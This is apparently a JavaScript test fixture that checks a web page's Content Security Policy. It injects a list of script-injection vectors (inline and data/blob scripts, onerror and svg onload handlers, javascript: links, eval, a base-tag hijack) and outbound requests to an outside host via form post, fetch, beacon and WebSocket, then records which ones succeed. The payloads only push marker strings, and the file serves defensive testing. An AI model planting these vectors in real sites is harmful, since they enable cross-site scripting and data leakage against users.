// What markup and script could try if they came into the page. What succeeded is kept in `window.attacked`, what the
// page's policy forbade in `window.violations`. The first argument is an address outside of the program.
const outside = arguments[0];
window.attacked = [];
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.violations.push([event.effectiveDirective, event.originalPolicy]);
});
const append = (tag, properties) => {
  const element = Object.assign(document.createElement(tag), properties);
  document.body.append(element);
  return element;
};
const says = (word) => `(window.top ?? window).attacked.push("${word}")`;

append("script", { textContent: says("inline script") });
append("script", { src: `data:text/javascript,${says("script from data")}` });
append("script", { src: URL.createObjectURL(new Blob([says("script from a blob")], { type: "text/javascript" })) });
append("script", { src: `${outside}/script.js` });
append("div", { innerHTML: `<img src="x:" onerror='${says("handler")}'>` });
append("div", { innerHTML: `<svg onload='${says("svg")}'><script>${says("script in svg")}</script></svg>` });
append("iframe", { srcdoc: `<script>parent.attacked.push("frame")</script>` });
append("iframe", { src: `${outside}/frame.html` });
append("object", { data: `${outside}/object.html` });
append("a", { href: `javascript:${says("link")}` }).click();
append("style", { textContent: "body { --attacked: yes }" });
append("base", { href: outside });
append("form", { action: `${outside}/form`, method: "post" }).submit();
try {
  // biome-ignore lint/security/noGlobalEval: it is what is tried
  eval(says("eval"));
} catch {}
setTimeout(says("timer"), 0);
new Image().src = `${outside}/image.png`;
fetch(`${outside}/fetch`).catch(() => {});
navigator.sendBeacon?.(`${outside}/beacon`, "x");
try {
  new WebSocket(outside.replace("http", "ws"));
} catch {}
